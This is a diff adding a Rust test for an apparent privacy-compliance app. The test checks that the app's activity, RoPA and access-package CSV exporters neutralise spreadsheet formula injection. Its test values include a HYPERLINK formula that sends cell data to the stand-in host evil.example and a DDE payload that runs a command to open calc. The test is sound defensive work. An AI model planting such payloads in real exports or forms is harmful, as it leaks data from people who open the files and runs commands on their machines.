@@ -140,4 +140,104 @@ mod tests {
             assert_eq!(defuse(cell), out, "{cell:?}");
         }
     }
+
+    /// What each exporter writes, read back with the `csv` crate's reader.
+    fn cells(bytes: &[u8]) -> Vec<String> {
+        assert!(bytes.ends_with(b"\r\n"), "CRLF line ends");
+        csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(bytes)
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
+            .collect()
+    }
+
+    /// The activity export, the RoPA CSV and the access package's CSVs all defuse and quote
+    /// the same way: each hostile value comes back as `defuse(value)`, never as itself.
+    #[test]
+    fn every_csv_the_app_writes_follows_the_one_rule() {
+        use crate::ingest::{self, model::Incoming};
+        use crate::store::processors::{insert, NewProcessor};
+
+        const VALUES: [&str; 8] = [
+            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
+            "+1",
+            "-2",
+            "@SUM(A1:A9)",
+            "\tcmd",
+            "say \"hi\", then,\nleave",
+            "Müller",
+            "-1+cmd|' /C calc'!A0",
+        ];
+        let dir = tempfile::tempdir().unwrap();
+        let ctx = crate::context::Context::open(dir.path()).unwrap();
+
+        // Activity log: the event ids are the processor's data.
+        let pid = ctx
+            .db
+            .write(|c| {
+                insert(
+                    c,
+                    &NewProcessor {
+                        name: "Stripe",
+                        kind: "stripe",
+                        endpoint_id: Some("0123456789abcdef01234567"),
+                        token_hash: None,
+                        config: "{}",
+                        created_at: 1,
+                    },
+                )
+            })
+            .unwrap();
+        for (i, v) in VALUES.iter().enumerate() {
+            let inc = Incoming {
+                event_id: (*v).into(),
+                event_type: "customer.updated".into(),
+                occurred_at: 1_000 + i as i64,
+                livemode: Some(false),
+                thin: false,
+                data: Default::default(),
+            };
+            ingest::store_blocking(&ctx.db, ingest::row(pid, "stripe", inc, 2_000, None)).unwrap();
+        }
+        let path = dir.path().join("activity.csv");
+        let q = crate::activity::ActivityQuery::default();
+        assert_eq!(crate::activity::export_csv(&ctx.db, &q, &path).unwrap(), 8);
+        let activity = cells(&std::fs::read(&path).unwrap());
+
+        // RoPA: the officer's free text.
+        for v in VALUES {
+            let fields = crate::ropa::ActivityFields {
+                purpose: v.into(),
+                ..Default::default()
+            };
+            crate::ropa::save_activity(&ctx, None, fields, vec![]).unwrap();
+        }
+        let ropa = cells(&crate::ropa::export::csv(
+            &crate::ropa::report(&ctx).unwrap(),
+        ));
+
+        // Access package: a category's records, strings and a number.
+        let records: Vec<_> = VALUES
+            .iter()
+            .map(|v| serde_json::json!({"name": v, "balance": -2}))
+            .collect();
+        let access = cells(&crate::requests::access::to_csv(&records));
+
+        // (The RoPA trims what the officer typed: its `\tcmd` is `cmd`.)
+        let stored = |v: &'static str, trims: bool| if trims { v.trim() } else { v };
+        for (what, out, trims) in [
+            ("activity", activity, false),
+            ("ropa", ropa, true),
+            ("access", access, false),
+        ] {
+            for v in VALUES.map(|v| stored(v, trims)) {
+                let defused = defuse(v);
+                assert!(out.contains(&defused.to_string()), "{what}: {defused:?}");
+                if defused != v {
+                    assert!(!out.iter().any(|c| c == v), "{what}: {v:?} left as is");
+                }
+            }
+        }
+    }
 }
